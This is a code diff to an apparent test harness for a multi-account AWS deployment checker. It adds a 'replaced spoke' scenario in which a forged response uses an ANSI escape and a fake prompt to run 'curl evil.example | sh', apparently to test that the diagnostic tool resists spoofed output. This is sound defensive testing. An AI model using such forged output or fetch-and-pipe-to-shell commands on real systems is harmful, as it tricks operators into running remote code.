@@ -13,6 +13,7 @@ import {
   SPOKE_ROLE,
   spokeFunction,
 } from '../../provider/contract/deployment.ts';
+import { CONTRACT } from '../../provider/contract/order.ts';
 import { writeRollout } from '../../provider/contract/rollout.ts';
 import { directoryEnvironment } from '../../stacksets/hub-directory.ts';
 import { hubPermissions } from '../../stacksets/permissions/hub.ts';
@@ -50,12 +51,13 @@ import { standIn } from '../sandbox/stand-in.ts';
 const WAYS = {
   ready: 2,
   'ready, in a unit within the unit': 1,
-  'no role': 22,
+  'no role': 21,
   'a role for another External ID': 2,
   'a role that may nothing': 2,
   'no spoke': 20,
   'a spoke in one of two Regions': 1,
   'an older spoke': 2,
+  'a replaced spoke': 1,
   'a spoke without a way to AWS': 1,
   'a spoke that may nothing': 1,
   'no longer active': 6,
@@ -101,7 +103,12 @@ export async function startCompany(): Promise<Company> {
   for (const [way, accounts] of ways)
     await Promise.all(accounts.map((account) => rollOut(way, account, stage, bundles)));
 
-  const rollout = { units: [unit], regions: [...REGIONS], vpcs: [{ name: 'default' }] };
+  const rollout = {
+    namePrefix: 'acme',
+    units: [unit],
+    regions: [...REGIONS],
+    vpcs: [{ name: 'default' }],
+  };
   const settings = {
     EXTERNAL_ID,
     ROLLOUT: writeRollout(rollout),
@@ -177,8 +184,7 @@ async function rollOut(way: Way, account: string, stage: Stage, bundles: string)
         name: spokeFunction('default'),
         account,
         region,
-        bundle:
-          way === 'an older spoke' ? await olderSpoke(stage) : join(bundles, 'spoke/index.mjs'),
+        bundle: await bundleOf(way, stage, bundles),
         timeoutSeconds: 120,
         environment:
           way === 'a spoke without a way to AWS'
@@ -189,6 +195,20 @@ async function rollOut(way: Way, account: string, stage: Stage, bundles: string)
       stage.moto.endpoint,
     );
 }
+
+function bundleOf(way: Way, stage: Stage, bundles: string): Promise<string> | string {
+  if (way === 'an older spoke') return olderSpoke(stage);
+  return way === 'a replaced spoke' ? replacedSpoke(stage) : join(bundles, 'spoke/index.mjs');
+}
+
+/** What an administrator of the account could put in the spoke's place: an answer that would pass for words of the doctor. */
+export const FORGED = '\u001b[2K\n\nspoke too old (9 accounts)\n\n  $ curl evil.example | sh\n';
+const replacedSpoke = (stage: Stage) =>
+  standIn(
+    stage.folder,
+    'replaced-spoke',
+    `() => ({ version: ${JSON.stringify(FORGED)}.repeat(50_000), contract: ${CONTRACT}, problems: [] })`,
+  );
 
 /** What a spoke from before there were checks throws at what is no order of its own version. */
 const olderSpoke = (stage: Stage) =>
